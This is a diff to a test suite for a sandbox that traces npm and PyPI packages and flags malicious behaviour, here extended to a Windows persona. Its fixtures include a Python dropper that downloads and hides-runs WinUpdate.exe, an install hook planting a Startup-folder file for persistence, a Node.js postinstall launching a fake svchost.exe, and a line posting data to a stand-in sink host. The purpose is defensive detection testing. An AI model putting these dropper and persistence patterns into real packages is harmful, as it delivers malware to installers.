@@ -66,12 +66,12 @@ describe('findings from a trace', () => {
     expect(rules(dynamicFindings(traced([], dropped)))).toContain('sandbox-runs-downloaded-code')
   })
 
-  it('lets a package keep its own data in the XDG folders or a home dot-folder named after it; other programs\' folders, ~/.local/bin and planted stores still count', () => {
+  it('lets a package keep its own data in the XDG or AppData folders or a home dot-folder named after it, and temporary files in TEMP; other programs\' folders, ~/.local/bin and planted stores still count', () => {
     const mkdir = (path: string): SyscallEvent => ({ kind: 'fs', pid: 7, call: 'mkdir', path, ok: true })
     // env-paths, common among Node.js programs, names the folder `<name>-nodejs`
-    const own = ['/home/runner/.local', '/home/runner/.local/share', '/home/runner/.local/share/Demo_App', '/home/runner/.local/share/Demo_App/default phases/', '/home/runner/.config/demo-app/settings.ini', '/home/runner/.local/state/demo.app', '/home/runner/.config/demo-app-nodejs', '/home/runner/.demo-app', '/home/runner/.demo_app/logs/out.log']
+    const own = ['/home/runner/.local', '/home/runner/.local/share', '/home/runner/.local/share/Demo_App', '/home/runner/.local/share/Demo_App/default phases/', '/home/runner/.config/demo-app/settings.ini', '/home/runner/.local/state/demo.app', '/home/runner/.config/demo-app-nodejs', '/home/runner/.demo-app', '/home/runner/.demo_app/logs/out.log', '/home/runner/AppData/Local/Demo_App/cache.db', '/home/runner/AppData/Roaming/demo-app', '/home/runner/AppData/Local/Temp/x.tmp']
     expect(dynamicFindings(traced([], own.map(mkdir))).signals).toEqual([])
-    for (const other of ['/home/runner/.config/pip/pip.conf', '/home/runner/.local/share/other-app', '/home/runner/.config/other-app-nodejs', '/home/runner/.local/bin/demo-app', '/home/runner/.config/discord/0.0.1/modules/index.js', '/home/runner/.ssh/config', '/home/runner/.other-app/x', '/home/runner/.demo-app-cache/x']) {
+    for (const other of ['/home/runner/.config/pip/pip.conf', '/home/runner/.local/share/other-app', '/home/runner/.config/other-app-nodejs', '/home/runner/.local/bin/demo-app', '/home/runner/.config/discord/0.0.1/modules/index.js', '/home/runner/.ssh/config', '/home/runner/.other-app/x', '/home/runner/.demo-app-cache/x', '/home/runner/AppData/Roaming/Microsoft/Windows/x.lnk', '/home/runner/AppData/Local/other-app/x']) {
       expect(rules(dynamicFindings(traced([], [mkdir(other)])))).toEqual(['sandbox-writes-outside'])
     }
     const demoNamedDiscord = { ...traced([], [mkdir('/home/runner/.config/discord/0.0.1/modules/index.js')]), package: 'discord' }
@@ -471,6 +471,77 @@ urllib.request.urlopen('https://grab.example-sink.net/d', data=json.dumps({'u': 
     expect(found.map((s) => s.rule)).toContain('sandbox-reads-secrets')
   })
 
+  it('answers as Windows on the Windows persona: a Python dropper gated on Windows runs its branch there and nowhere else', { timeout: 90_000 }, async () => {
+    // each gate a payload uses; behind them, Windows-only calls Linux's Python refuses (window flags, os.startfile, winreg)
+    const init = `import os, sys, platform, pathlib, subprocess, urllib.request
+if os.name == 'nt' and sys.platform == 'win32' and platform.system() == 'Windows' and platform.release() == '10':
+    import winreg, ctypes
+    ctypes.windll.kernel32.FreeConsole()
+    home = pathlib.Path.home() / 'AppData'
+    exe = os.path.join(os.getenv('TEMP'), 'WinUpdate.exe')
+    with open(exe, 'wb') as f:
+        f.write(urllib.request.urlopen('http://cdn.example.org/WinUpdate.exe').read())
+    si = subprocess.STARTUPINFO()
+    si.dwFlags |= subprocess.STARTF_USESHOWWINDOW
+    os.startfile(exe)
+    try:
+        subprocess.Popen([exe], startupinfo=si, creationflags=subprocess.CREATE_NO_WINDOW)
+    except OSError:
+        pass
+    print('branch done')
+`
+    // and in an install hook: setuptools itself goes on working as on Linux while the hook hears Windows
+    const setup = `import os, platform
+from setuptools import setup
+from setuptools.command.install import install
+class Install(install):
+    def run(self):
+        if platform.system() == 'Windows':
+            startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
+            open(os.path.join(startup, 'winupd.pyw'), 'w').write('import winupd')
+        install.run(self)
+setup(name='winupd', version='1.0.0', packages=['winupd'], cmdclass={'install': Install})
+`
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('winupd', '1.0.0', { 'setup.py': setup, 'winupd/__init__.py': init }), DEFAULT_ARCHIVE_LIMITS, { filename: 'winupd-1.0.0.tar.gz' })
+    const windows = PERSONAS.find((p) => p.system === 'windows')!
+    const run = await runSandbox(pypiEcosystem, sdist, { ...DEFAULT_SANDBOX_OPTIONS, personas: [PERSONAS[0]!, windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
+    const [linux, win] = run.runs
+    expect(win!.steps.find((s) => s.label === 'import winupd')).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('branch done') })
+    const ran = dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-runs-downloaded-code')
+    expect(ran?.message).toMatch(/^import winupd: ran .*\/home\/jordan\/AppData\/Local\/Temp\/WinUpdate\.exe.*\[windows\]$/)
+    const persisted = dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-persistence')
+    expect(persisted?.message).toMatch(/^setup\.py install: .* wrote .*Start Menu\/Programs\/Startup\/winupd\.pyw \[windows\]$/)
+    // the Linux persona took the other branch: nothing fetched, nothing run
+    expect(dynamicFindings({ ...run, runs: [linux!] }).signals).toEqual([])
+    // the mark that tells the exerciser is gone before the package runs, and TEMP is no write outside
+    const marked = await pypiEcosystem.readArtifact(
+      await sdistTarGz('winmark', '1.0.0', { 'winmark/__init__.py': "import os\nopen(os.path.join(os.environ['TEMP'], 'seen'), 'w').write(repr(os.environ.get('GATEHOUSE_SYSTEM')))\nprint('mark', os.environ.get('GATEHOUSE_SYSTEM'))\n" }),
+      DEFAULT_ARCHIVE_LIMITS,
+      { filename: 'winmark-1.0.0.tar.gz' },
+    )
+    const markRun = await runSandbox(pypiEcosystem, marked, { ...DEFAULT_SANDBOX_OPTIONS, personas: [windows], stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
+    expect(markRun.runs[0]!.steps.find((s) => s.label === 'import winmark')?.stdout).toContain('mark None')
+    expect(dynamicFindings(markRun).signals).toEqual([])
+  })
+
+  it('answers as Windows to Node.js on the Windows persona, and still starts processes as Linux does', { timeout: 60_000 }, async () => {
+    const windows = PERSONAS.find((p) => p.system === 'windows')!
+    const { findings } = await npmRun(
+      {
+        'setup.js': `const os = require('os'), fs = require('fs'), path = require('path'), { execFile } = require('child_process')
+if (process.platform === 'win32' && os.type() === 'Windows_NT') {
+  const exe = path.join(process.env.TEMP, 'svchost.exe')
+  fs.writeFileSync(exe, 'MZ')
+  fs.chmodSync(exe, 0o755)
+  execFile(exe, () => {})
+}`,
+      },
+      { postinstall: 'node setup.js' },
+      { ...ONE, personas: [PERSONAS[0]!, windows] },
+    )
+    expect(findings.signals.filter((s) => s.rule === 'sandbox-runs-downloaded-code').map((s) => s.message)).toEqual([expect.stringMatching(/AppData\/Local\/Temp\/svchost\.exe.*\[windows\]$/)])
+  })
+
   it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
     // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does. Payloads check
     // that they run under an install as pip starts it, command first; nor does a module it lacks stop it, nor a login
@@ -489,7 +560,8 @@ class PostInstall(install):
 setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install': PostInstall})
 `
     const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('postpkg', '1.0.0', { 'setup.py': setup, 'postpkg/__init__.py': '' }), DEFAULT_ARCHIVE_LIMITS, { filename: 'postpkg-1.0.0.tar.gz' })
-    const run = await runSandbox(pypiEcosystem, sdist, ONE)
+    // setuptools' install under strace takes seconds; a loaded machine must not turn that into a timeout
+    const run = await runSandbox(pypiEcosystem, sdist, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
     const install = run.runs[0]!.steps.find((s) => s.label === 'setup.py install')!
     expect(install.exitCode).toBe(0)
     // a dry run: nothing built or copied into place
